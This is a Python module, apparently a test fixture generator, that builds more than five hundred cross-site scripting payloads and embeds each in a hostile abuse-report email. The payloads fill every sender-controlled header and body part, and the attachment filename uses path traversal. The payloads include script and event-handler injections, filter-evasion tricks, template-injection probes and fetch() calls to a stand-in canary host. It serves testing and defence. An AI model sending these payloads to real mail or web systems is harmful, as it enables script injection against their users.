"""More than five hundred payloads, and a mail that carries one in every field that a sender controls."""

import base64
from collections.abc import Iterator
from itertools import product

_TAGS = (
    "script img svg iframe object embed video audio body input details marquee form math style link meta base a select textarea keygen"
    " isindex template noscript xmp plaintext title"
).split()
_HANDLERS = ("onerror", "onload", "onclick", "onfocus autofocus", "onmouseover", "ontoggle open", "onanimationstart", "onpointerenter")
_DEED = "window.canary=1;fetch('http://canary.example/{n}')"
_BREAKS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</style>", "</script>", "]]>", "`>", '" x="', "' x='", "</iframe>", "</svg>")
_WHOLE = (
    "<script>{deed}</script>", "<img src=x onerror=\"{deed}\">", "<svg/onload={deed}>", "<a href=\"javascript:{deed}\">x</a>",
    "<iframe srcdoc=\"<script>{deed}</script>\">", "<img src=http://canary.example/{n}.png>",
    "<link rel=stylesheet href=//canary.example/{n}>",
    "<meta http-equiv=refresh content='0;url=http://canary.example/{n}'>", "<base href=//canary.example/>", "{{{{7*7}}}}{{% raw %}}",
    "&lt;script&gt;{deed}&lt;/script&gt;", "\\u003cscript\\u003e{deed}", "<style>@import '//canary.example/{n}';</style>",
    "<div style=\"background:url(//canary.example/{n})\">", "javascript:{deed}//", "data:text/html,<script>{deed}</script>",
    "<form action=//canary.example><input type=submit autofocus onfocus={deed}>",
    "<math><mtext></p><style><!--</style><img src=x onerror={deed}>",
    "<svg><animate onbegin={deed} attributeName=x dur=1s>", "<noscript><p title=\"</noscript><img src=x onerror={deed}>\">",
    "<x contenteditable onblur={deed}>", "＜script＞{deed}＜/script＞", "<scr\0ipt>{deed}</scr\0ipt>", "\u202e<script>{deed}</script>",
)  # fmt: skip


def payloads() -> list[str]:
    """Each one of its own; the number in it tells which one acted."""
    plain = [
        *_WHOLE,
        *(
            f"<{tag} {handler.replace(' ', '={deed} ', 1) if ' ' in handler else handler + '={deed}'} src=x href=x>"
            for tag, handler in product(_TAGS, _HANDLERS)
        ),
    ]
    broken = [mark + each for mark, each in product(_BREAKS, plain[: len(_WHOLE)])]
    found = list(dict.fromkeys(plain + broken))
    return [each.replace("{deed}", _DEED).replace("{n}", str(number)) for number, each in enumerate(found)]


def hostile_mails() -> Iterator[tuple[str, bytes]]:
    """Each payload with the mail that carries it."""
    for number, payload in enumerate(payloads()):
        yield payload, _report(number, payload)


def _report(number: int, payload: str) -> bytes:
    """A report about a mail from our network, so that its case has a page too."""
    line = payload.replace("\r", " ").replace("\n", " ").replace("\0", "\ufffd")
    bare = line.replace('"', "'").replace("\\", "/")[:200]
    word = f"=?utf-8?B?{base64.b64encode(line.encode()).decode()}?="
    token = line.replace(" ", "/").replace('"', "'")[:180]
    boundary = f"=_{number}"
    reported = (
        f"Received: from {token} ({token} [203.0.113.{number % 20 + 1}]) by mx.example-host.jp ({bare}) with {token} id {token}"
        f" for <{token}>;\r\n"
        f" Mon, 3 Aug 2026 00:59:50 +0000 ({bare})\r\n"
        f"Received: from {token} (helo={token}) by {token} with {token}; {bare}\r\n"
        f"Received-SPF: pass ({bare}) client-ip=203.0.113.{number % 20 + 1}; helo={token};\r\n"
        f'Authentication-Results: mx.example-host.jp; spf=pass ({bare}) smtp.mailfrom={token}; dkim=fail reason="{bare}"\r\n'
        f'From: "{bare}" <{token}@sender.example>\r\nTo: {word} <{token}@victim.example>\r\nSubject: {line}\r\n'
        f"Message-ID: <{token}@sender.example>\r\nDate: {line}\r\nX-{token}: {line}\r\nUser-Agent: {word}\r\n"
        f'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="in{boundary}"; {token}="{bare}"\r\n\r\n'
        f'--in{boundary}\r\nContent-Type: text/plain; charset="{bare}"\r\n\r\n{payload}\r\nhttps://{token}.example/{token}\r\n'
        f"--in{boundary}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>{payload}</p>"
        f'<a href="https://www.shop.example/{token}">{payload}</a><a href=\'{token}\'>x</a><img src="https://canary.example/{number}.png">\r\n'
        f'--in{boundary}\r\nContent-Type: {token}/{token}; name="{bare}"\r\n'
        f'Content-Disposition: attachment; filename="../../{bare}"\r\n\r\nx\r\n'
        f"--in{boundary}--\r\n"
    )
    return (
        f'From: "{bare}" <{token}@reporter.example>\r\nReply-To: {word}\r\nTo: {word} <abuse@example-host.jp>\r\nSubject: {word} {line}\r\n'
        f"Message-ID: <r{token}@reporter.example>\r\nDate: Mon, 3 Aug 2026 01:10:00 +0000\r\nX-{token}: {line}\r\n"
        "MIME-Version: 1.0\r\n"
        f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'
        f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nCategory: {line}\r\n"
        f"Claimant: {line}\r\nComments to forward: {line}\r\n"
        f"Location: https://www.shop.example/{token}\r\n{payload}\r\n"
        f'--{boundary}\r\nContent-Type: message/rfc822; name="{bare}.eml"\r\nContent-Disposition: attachment; filename="{bare}.eml"\r\n\r\n'
        f"{reported}\r\n--{boundary}--\r\n"
    ).encode("utf-8", "replace")
